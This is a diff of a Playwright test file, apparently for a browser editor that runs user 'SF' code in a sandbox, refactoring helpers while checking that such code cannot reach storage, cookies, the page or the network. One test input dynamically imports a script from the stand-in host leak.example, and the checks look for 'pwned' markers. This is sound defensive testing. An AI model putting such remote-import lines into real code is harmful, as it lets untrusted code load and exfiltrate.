@@ -1,5 +1,4 @@
-import { test, expect } from '@playwright/test';
-import { Workbench } from './workbench.ts';
+import { App, test, expect } from './app/index.ts';
 
 /**
  * SF code typed into the editor tries to reach the page, storage, cookies and the network. Every
@@ -29,15 +28,15 @@ test('SF code cannot reach the page, storage, cookies or the network; each attem
   page.on('request', (request) => {
     if (request.url().includes('leak.example')) requests.push(request.url());
   });
-  const app = new Workbench(page);
+  const app = new App(page);
   await app.open();
   const source = [
     'export const fine = (row: Row) => row.z0 > 0;',
     ...ATTEMPTS.map(([sf, code]) => `export const ${sf} = (row: Row) => ${code};`),
   ].join('\n');
-  await app.replaceSfSource(source + '\n');
-  await app.applyWithKeyboard();
-  const errors = app.sfErrors();
+  await app.editor.replaceSfSource(source + '\n');
+  await app.editor.applyWithKeyboard();
+  const errors = app.editor.sfErrors();
   await expect(errors).toContainText(`${ATTEMPTS.length} problems`);
   for (const [index, [sf, , message]] of ATTEMPTS.entries()) {
     const item = page.getByTestId(`slices.error.${sf}`);
@@ -45,20 +44,19 @@ test('SF code cannot reach the page, storage, cookies or the network; each attem
     await expect(item).toContainText(`line ${index + 2}`);
   }
   // The harmless SF still ran; nothing reached the page or the network.
-  await expect(app.sliceCount('fine')).toBeVisible();
+  await expect(app.editor.sliceCount('fine')).toBeVisible();
   expect(await page.evaluate(() => [localStorage.getItem('pwned'), document.cookie.includes('pwned'), document.body.innerHTML === 'pwned'])).toEqual([null, false, false]);
   expect(requests).toEqual([]);
 });
 
-test('dynamic import() and import.meta are rejected before anything runs, with line and column', async ({ page }) => {
-  const app = new Workbench(page);
+test('dynamic import() and import.meta are rejected before anything runs, with line and column', async ({ app }) => {
   await app.open();
-  await app.replaceSfSource("export const fine = (row: Row) => row.z0 > 0;\nexport const load = (row: Row) => import('https://leak.example/x.js') !== null;\n");
-  await app.applyWithKeyboard();
-  await expect(app.sfErrors()).toContainText('Dynamic import() is blocked (line 2, column 35): SF code cannot load code or reach the network');
-  const problem = await app.firstProblem();
+  await app.editor.replaceSfSource("export const fine = (row: Row) => row.z0 > 0;\nexport const load = (row: Row) => import('https://leak.example/x.js') !== null;\n");
+  await app.editor.applyWithKeyboard();
+  await expect(app.editor.sfErrors()).toContainText('Dynamic import() is blocked (line 2, column 35): SF code cannot load code or reach the network');
+  const problem = await app.editor.firstProblem();
   expect(problem.line).toBe(2);
-  await app.replaceSfSource('export const where = (row: Row) => import.meta.url.length > 0;\n');
-  await app.applyWithKeyboard();
-  await expect(app.sfErrors()).toContainText('import.meta is blocked (line 1, column 36)');
+  await app.editor.replaceSfSource('export const where = (row: Row) => import.meta.url.length > 0;\n');
+  await app.editor.applyWithKeyboard();
+  await expect(app.editor.sfErrors()).toContainText('import.meta is blocked (line 1, column 36)');
 });
